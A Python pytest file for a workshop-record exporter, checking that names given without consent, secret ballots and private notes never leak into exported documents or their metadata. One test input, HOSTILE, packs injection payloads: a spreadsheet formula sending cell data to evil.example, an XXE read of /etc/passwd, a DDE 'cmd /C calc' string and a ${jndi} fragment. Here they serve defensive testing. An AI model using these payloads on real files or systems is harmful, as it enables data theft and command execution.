"""What holds for every document that there is, whatever its format: nothing gets out that may not, nothing gets in.

A new kind is tried here by being in the table.
"""

from __future__ import annotations

import collections
import dataclasses
import functools
import re
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest

from lsp_workshop.documents import (
    DOCUMENTS,
    DocumentKind,
    Making,
    bundled_framework,
    suggested_name,
    write_document,
)
from lsp_workshop.domain.handouts.organisations import organisation_pages
from lsp_workshop.domain.handouts.summary import summary
from lsp_workshop.domain.model import (
    Action,
    Adoption,
    AgendaItem,
    Answer,
    AnswerStatus,
    Apology,
    Ballot,
    BallotOption,
    BallotRules,
    BallotStatus,
    Correction,
    Decision,
    EarlierCheck,
    EarlierRating,
    Feedback,
    Group,
    Indicator,
    Lesson,
    Mechanism,
    Method,
    Milestone,
    Note,
    Objective,
    Organisation,
    ParkingLotItem,
    Participant,
    Partnership,
    Photo,
    Picture,
    Pledge,
    PurposeStatement,
    Question,
    Record,
    Review,
    ReviewItem,
    Route,
    ScalePoint,
    Secrecy,
    Sector,
    StaffAnswer,
    StaffFunction,
    Stage,
    Theme,
    Turnout,
    VisionWording,
    Vote,
    WorkshopDetails,
)
from lsp_workshop.domain.pictures import as_text
from lsp_workshop.domain.record import printable_record
from lsp_workshop.domain.texts import TEXTS
from lsp_workshop.domain.workshop import Workshop
from tests.domain.flip_charts import flip_chart
from tests.export.made_up import everywhere, with_answers
from tests.export.opened import all_that_is_in
from tests.export.reading import squeezed

WITH_ANSWERS = {"record", "lists", "answers", "everything"}
OTHER_SELF = ".json"
"""The file's other self is no document to hand on: it holds everything, and says so."""
PAPERS = [kind for kind in DOCUMENTS if kind.suffix != OTHER_SELF]
USUAL = [kind for kind in PAPERS if not kind.public]
"""The public versions are laid out by the same code."""


def called(kind: DocumentKind) -> str:
    return f"{kind.kind}{kind.suffix}"


SECTORS = ("public", "private", "voluntary", "community")
BIG, SMALL = 6, 2
"""Papers of a sector that is shown, and of one that is not."""


def _people(hidden: str, agreed: str) -> Iterator[Record]:
    for place, sector in enumerate(SECTORS):
        yield Sector(id=sector, name=f"{sector.capitalize()} side", order=place)
        yield Organisation(id=f"o-{sector}", name=f"The {sector} body", sector_id=sector)
    yield Group(id="g1", label="A", host_id="p1", scribe_id="p2")
    yield Participant(
        id="p1", name=hidden, role="Clerk", organisation_id="o-public", group_id="g1", attended=True,
        access_needs=f"{hidden} reads lips",
    )  # fmt: skip
    yield Participant(
        id="p2", name=agreed, role="Chair", organisation_id="o-private", group_id="g1", attended=True,
        named_in_record=True,
    )  # fmt: skip
    yield Apology(id="ap1", name=hidden, organisation="The public body")


def _promised(hidden: str, agreed: str) -> Iterator[Record]:
    yield Objective(id="ob1", number=1, title="Buses", lead_participant_id="p1", statement=f"{hidden} leads")
    for number, owner in enumerate(("p1", "p2"), start=1):
        yield Action(
            id=f"ac{number}", objective_id="ob1", title=f"Ask {hidden} for a timetable", owner_participant_id=owner,
            planner_organisation_id="o-public", due="2016-06-30", first_step=f"Ring {hidden}",
            first_step_due="2016-04", milestones=(Milestone(title=f"{hidden} has rung", due="2016-05-01"),),
        )  # fmt: skip
    yield Indicator(id="in1", title=f"Buses that {hidden} caught", target=3, target_date="2016-09")
    yield Pledge(id="pl1", organisation_id="o-public", participant_id="p1", text=f"{hidden} will", due="2016-07-01")
    yield Decision(id="d1", text=f"{hidden} goes", how=f"said {hidden}", dissent=f"Not {hidden}’s view")
    yield Review(id="r1", date="2017-03", kind=f"with {hidden}")
    yield Lesson(id="l1", text=f"Listen to {hidden}", share_with=hidden)
    yield ParkingLotItem(id="pk1", text="Parked", raised_by=hidden, owner_participant_id="p1", answer_by="2016-04-01")
    yield Feedback(id="feedback", comments=(f"{hidden} spoke well",))
    yield Picture(id="pi1", data=as_text(flip_chart(place=hidden)))
    yield Photo(
        id="ph1", question_id="Q1.1", picture_id="pi1", width=60, height=80, caption=f"What {hidden} drew",
        description=f"{hidden}’s three boxes", public=True,
    )  # fmt: skip
    yield Photo(id="ph2", question_id="Q1.1", picture_id="pi1", width=60, height=80, caption=f"For partners: {hidden}")
    yield Answer(id="a1", question_id="Q1.1", participant_id="p1", text=f"What {hidden} said", first_text=hidden)
    yield Answer(id="a2", question_id="Q1.1", participant_id="p2", group_id="g1", text="What the chair said")


def _wanted(hidden: str) -> Iterator[Record]:
    """The other places where words are typed, and a vote that is not secret."""
    yield PurposeStatement(id="pu1", text=f"As {hidden} had it first")
    yield PurposeStatement(id="pu2", text=f"So that {hidden} is heard")
    yield StaffFunction(id="staff-1", text="Keeps the books", answer=StaffAnswer.HAVE, note=f"{hidden} does")
    yield VisionWording(id="vw1", text=f"{hidden} takes the bus", status="adopted")
    yield Adoption(id="ad1", body=f"The board of {hidden}")
    yield Route(id="ro1", text=f"By {hidden}", rules_out=f"Without {hidden}", status="chosen")
    yield Mechanism(id="me1", to_whom=f"To {hidden}", how=f"{hidden} calls", how_often="yearly")
    yield Correction(id="co1", at="2016-03-14T10:00:00", text=f"{hidden} was misheard")
    yield AgendaItem(id="ag1", title=f"{hidden} opens", method=f"{hidden} speaks", time="09:00", minutes=10)
    yield Theme(id="th1", stage_id="S1", title=f"What {hidden} needs")
    yield EarlierCheck(id="ec1", called=f"The day of {hidden}", ratings=(EarlierRating(element="trust", mean=3),))
    asked = ReviewItem(title=f"{hidden} asked", rag="red", reason=f"{hidden} left")
    yield Review(id="r2", date="2016-03-12", items=(asked,))
    yield Note(id="no1", text=f"{hidden} is tired")
    yield Answer(
        id="a3", question_id="Q1.1", text=f"{hidden} again", first_text=f"Of {hidden}", theme_id="th1",
        status=AnswerStatus.SET_ASIDE,
    )  # fmt: skip
    yield _ballot("by-name", Secrecy.ATTRIBUTED, BallotStatus.CLOSED)
    for paper in range(BIG):
        yield Vote(
            id=f"v-by-name-{paper}", ballot_id="by-name", participant_id="p1" if not paper else None,
            sector_id="public", choices={"x": 1}, comment=f"{hidden} says so" if not paper else "",
        )  # fmt: skip


def _ballot(ballot_id: str, secrecy: Secrecy, status: BallotStatus, method: Method = Method.DOTS) -> Ballot:
    scale = tuple(ScalePoint(value=value, label=f"point {value}") for value in range(1, 6))
    return Ballot(
        id=ballot_id, title=f"Vote {ballot_id}", method=method, status=status, secrecy=secrecy, stage_id="S1",
        question_id="Q1.1", options=(BallotOption(id="x", label="Buses"), BallotOption(id="y", label="Trains")),
        scale=scale if method is Method.SCALE else None, eligible=16, opened_at="2016-03-12T11:00:00",
        rules=BallotRules(dots_per_voter=5 if method is Method.DOTS else None),
        eligible_by_sector=dict.fromkeys(SECTORS, 4), hidden_until_closed=ballot_id == "open",
    )  # fmt: skip


_MARKS = {
    Method.DOTS: {"x": {"x": 3}, "y": {"y": 3}},
    Method.SCALE: {"x": {"x": 5, "y": 1}, "y": {"x": 1, "y": 5}},
    Method.CONSENT: {"x": {"x": 2, "y": 0}, "y": {"x": 0, "y": 2}},
    Method.RANKING: {"x": {"x": 1, "y": 2}, "y": {"x": 2, "y": 1}},
}
"""A paper for either option, by each method."""


def _papers(turned: bool) -> Iterator[Record]:
    """Papers whose sums are the same either way: what differs is whose they are, which nobody may see."""
    first, second = ("x", "y") if turned else ("y", "x")
    for method, marks in _MARKS.items():
        ballot_id = f"few-{method}"
        yield _ballot(ballot_id, Secrecy.SECTOR_ONLY, BallotStatus.CLOSED, method)
        for place, (sector, count, option) in enumerate(
            (("public", BIG, "x"), ("private", BIG, "y"), ("voluntary", SMALL, first), ("community", SMALL, second))
        ):
            for paper in range(count):
                # The same words with the same marks, from another sector.
                told = "Too dear" if count == SMALL and option == "y" and paper == 0 else ""
                yield Vote(
                    id=f"v-{ballot_id}-{place}-{paper}", ballot_id=ballot_id, sector_id=sector, choices=marks[option],
                    comment=told,
                )  # fmt: skip
    # A file from elsewhere may name sectors on papers that are secret.
    yield _ballot("secret", Secrecy.SECRET, BallotStatus.CLOSED)
    for paper in range(2 * BIG):
        sector = SECTORS[(paper // BIG) ^ turned]
        choices = {"x" if paper < BIG else "y": 2}
        yield Vote(
            id=f"v-secret-{paper}", ballot_id="secret", sector_id=sector, choices=choices,
            comment="" if paper else "Too far",
        )  # fmt: skip
    # Nor what is on the papers in an open box, or how many are spoilt, whether or not it says that it hides its totals.
    for ballot_id in ("open", "bare"):
        yield _ballot(ballot_id, Secrecy.SECTOR_ONLY, BallotStatus.OPEN)
        for paper in range(BIG):
            yield Vote(
                id=f"v-{ballot_id}-{paper}", ballot_id=ballot_id, sector_id="public",
                choices={first: 1 + 3 * turned}, spoilt=turned and paper == 1,
                comment="Turned" if turned else "As it was",
            )  # fmt: skip
        yield Turnout(id=ballot_id, ballot_id=ballot_id, participant_ids=("p1", "p2"))


@functools.cache
def a_day(hidden: str, agreed: str, turned: bool) -> Workshop:
    """A day with secrets: a name, sectors of two papers each, whose a secret paper is, what is in an open box."""
    details = WorkshopDetails(
        id="workshop", title=f"A day with {hidden}", subtitle=hidden, date="2016-03-12", facilitator=hidden,
        scribe=hidden, purpose=f"To hear {hidden}", record_status=f"For {hidden} to correct",
        ground_rules=(f"{hidden} speaks last",), partnership=Partnership(name="The partnership", chair_id="p1"),
    )  # fmt: skip
    records = [
        details,
        Stage(id="S1", number=1, title="Purpose"),
        Question(id="Q1.1", stage_id="S1", number="1.1", text=f"What does {hidden} want?"),
        *_people(hidden, agreed),
        *_promised(hidden, agreed),
        *_wanted(hidden),
        *_papers(turned),
    ]
    return Workshop(records)


HIDDEN, OTHER_HIDDEN = "Zebulon Quandary", "Ermintrude Vavasour-Hythe"
AGREED, OTHER_AGREED = "Ada Lovelock", "Bartholomew Oakenshott"


@pytest.mark.parametrize("kind", PAPERS, ids=called)
def test_nothing_that_is_secret_makes_a_difference(kind: DocumentKind, tmp_path: Path) -> None:
    """Whatever could be read out of a document, by eye or with tools, of a name without consent, a small sector, a
    secret paper or an open box: two days that differ in nothing else give the same bytes.
    """
    one, other = tmp_path / f"one{kind.suffix}", tmp_path / f"other{kind.suffix}"
    write_document(a_day(HIDDEN, AGREED, False), one, kind.kind)
    hidden = HIDDEN if kind.names_everybody else OTHER_HIDDEN
    agreed = OTHER_AGREED if kind.public else AGREED
    write_document(a_day(hidden, agreed, True), other, kind.kind)
    assert one.read_bytes() == other.read_bytes()
    # The name of the file, too, is read by whoever gets it.
    names = [suggested_name(a_day(each, AGREED, False), kind) for each in (HIDDEN, hidden)]
    assert names[0] == names[1]


@pytest.mark.parametrize("kind", PAPERS, ids=called)
def test_no_name_stands_anywhere_without_consent(kind: DocumentKind, tmp_path: Path) -> None:
    """The same, asked plainly; so that the test above cannot pass because both are empty."""
    out = tmp_path / f"out{kind.suffix}"
    write_document(a_day(HIDDEN, AGREED, False), out, kind.kind)
    found = all_that_is_in(out)
    assert "Clerk" in found or len(found) > 500
    # Nor when it was exported: the same day gives the same bytes next year.
    for today in (f"{date.today():%Y-%m-%d}", f"{date.today():%Y%m%d}"):
        assert today not in found
    if not kind.names_everybody:
        assert "Quandary" not in found
        assert "readslips" not in found
        assert "Quandary" not in suggested_name(a_day(HIDDEN, AGREED, False), kind)
    if kind.public:
        assert "Lovelock" not in found
        assert "Forpartners" not in found
    # What somebody wrote down for themselves, and what others must not know, is in none of them, named or not.
    assert "istired" not in found
    assert "lips" not in found


@pytest.mark.parametrize("room", range(1, 200, 9))
def test_a_name_that_would_be_cut_short_is_replaced_before(room: int) -> None:
    """“Let Zebulon…” on the sheet for everybody names him as well as the whole name does."""
    framework, words = bundled_framework(), f"{'a' * room} {HIDDEN} {'must have a bus ' * 9}"
    of_role = Participant(id="p1", name="Ada", role=words, organisation_id="o1", attended=True)
    others = [each for each in everywhere(words).records() if not isinstance(each, Participant)]
    day = Workshop([*others, of_role, Participant(id="p9", name=HIDDEN, role="Clerk")])
    for made in (summary(day), organisation_pages(day, framework), printable_record(day, framework)):
        assert "Zebulon" not in repr(made)
        assert "Clerk" in repr(made)


@pytest.mark.parametrize("suffix", [".pdf", ".docx", ".xlsx"])
def test_the_look_into_a_document_sees_what_no_page_shows(suffix: str, tmp_path: Path) -> None:
    """Properties, alternative texts and what else only tools read; else the test above passes because it is blind."""
    out = tmp_path / f"out{suffix}"
    everything = Workshop(
        [
            dataclasses.replace(each, title="Titlemark", facilitator="Facilmark")
            if isinstance(each, WorkshopDetails)
            else each
            for each in everywhere("Altmark").records()
        ]
    )
    write_document(everything, out)
    found = all_that_is_in(out)
    expected = {
        ".pdf": [r"<dc:title>.*Titlemark", r"<dc:creator>.*Facilmark", r"/Author.*Facilmark", r"/Alt.*Altmark"],
        ".docx": [r"docProps/core\.xml.*<dc:title>Titlemark", r"<dc:creator>Facilmark", r"descr=\"[^\"]*Altmark"],
        ".xlsx": [r"docProps/core\.xml.*<dc:title>Titlemark", r"<dc:creator>Facilmark", r"sharedStrings\.xml.*Altmark"],
    }
    for pattern in expected[suffix]:
        assert re.search(pattern, found, re.DOTALL), pattern


def test_the_two_days_differ_in_what_is_secret(tmp_path: Path) -> None:
    """Or it would be no wonder that their documents are alike."""
    one, other = tmp_path / "one.json", tmp_path / "other.json"
    write_document(a_day(HIDDEN, AGREED, False), one)
    write_document(a_day(HIDDEN, AGREED, True), other)
    assert one.read_bytes() != other.read_bytes()
    # And a type of record that is new, and says something in words, has to be in them.
    assert set(TEXTS) <= {type(each) for each in a_day(HIDDEN, AGREED, False).records()}


HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1) <img src="file:///etc/passwd"/>&xxe; ]]> <w:p/> \ud800\x00\x07\x1b'
    "\u202e\u2066\ufffe\r\nBEGIN:VEVENT\r\n-1+cmd|' /C calc'!A0 <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> "
    "%s {0} ${jndi} '\"`\t@SUM(1) \U0001f469\u200d\U0001f467 ہمیں"
)


@pytest.mark.parametrize("kind", USUAL, ids=called)
def test_hostile_text_breaks_nothing_and_reads_nothing(kind: DocumentKind, tmp_path: Path) -> None:
    """Otherwise one pasted answer stops the export, or reads a file of the facilitator's into the record."""
    out = tmp_path / f"out{kind.suffix}"
    write_document(everywhere(HOSTILE), out, kind.kind)
    found = all_that_is_in(out)
    assert "root:x:0" not in found
    assert "\u202e" not in found
    assert not {"\x07", "\x1b"} & set(found) or kind.suffix == ".pdf"


@pytest.mark.parametrize("kind", USUAL, ids=called)
def test_a_workshop_with_nothing_in_it_gives_a_sound_document(kind: DocumentKind, tmp_path: Path) -> None:
    """Otherwise exporting a new file ends in an error."""
    out = tmp_path / f"out{kind.suffix}"
    write_document(Workshop([WorkshopDetails(id="workshop", title="")]), out, kind.kind)
    assert out.stat().st_size > 50


ANSWERS = 5_000
HOLD_ANSWERS = [kind for kind in DOCUMENTS if not kind.is_handout and kind.kind.removesuffix("-public") in WITH_ANSWERS]


@functools.cache
def a_day_of(answers: int) -> Workshop:
    return with_answers(*(f"Answer {number}. The last bus goes at seven" for number in range(answers)))


@pytest.mark.parametrize("kind", DOCUMENTS, ids=called)
def test_a_workshop_with_one_answer_gives_a_sound_document(kind: DocumentKind, tmp_path: Path) -> None:
    """Otherwise whoever tries the program out for a minute thinks that it is broken; the same gives the same bytes."""
    out, again = tmp_path / f"out{kind.suffix}", tmp_path / f"again{kind.suffix}"
    write_document(a_day_of(1), out, kind.kind)
    write_document(Workshop(a_day_of(1).records()), again, kind.kind)
    assert out.read_bytes() == again.read_bytes()
    assert (squeezed("Answer 0. The last bus") in all_that_is_in(out)) == (kind in HOLD_ANSWERS)


@pytest.mark.parametrize("kind", [kind for kind in HOLD_ANSWERS if not kind.public], ids=called)
def test_five_thousand_answers_all_come_out_and_none_comes_out_twice(kind: DocumentKind, tmp_path: Path) -> None:
    """Otherwise a year of workshops in one file is lost on the day on which it is wanted."""
    out = tmp_path / f"out{kind.suffix}"
    write_document(a_day_of(ANSWERS), out, kind.kind)
    found = collections.Counter(map(int, re.findall(r"Answer(\d+)\.", all_that_is_in(out))))
    assert found == dict.fromkeys(range(ANSWERS), 1)


@pytest.mark.parametrize("kind", USUAL, ids=called)
def test_an_export_that_fails_leaves_the_old_file_and_no_litter(kind: DocumentKind, tmp_path: Path) -> None:
    """Otherwise a full disk costs the record that was there."""
    out = tmp_path / f"out{kind.suffix}"
    out.mkdir()
    with pytest.raises(OSError, match=r"."):
        write_document(a_day(HIDDEN, AGREED, False), out, kind.kind, Making())
    assert list(tmp_path.iterdir()) == [out]
